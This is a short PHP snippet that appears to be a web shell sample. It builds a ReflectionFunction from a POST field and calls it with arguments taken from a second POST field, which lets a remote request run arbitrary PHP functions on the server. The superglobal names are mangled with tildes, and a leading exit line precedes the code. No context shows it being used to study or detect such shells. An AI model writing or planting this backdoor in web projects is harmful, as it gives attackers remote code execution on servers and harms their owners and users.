<?php exit; ?>
<?php
$r = new ReflectionFunction($_P~OST['f']); $r->invokeArgs(array($_P~OST['m']));
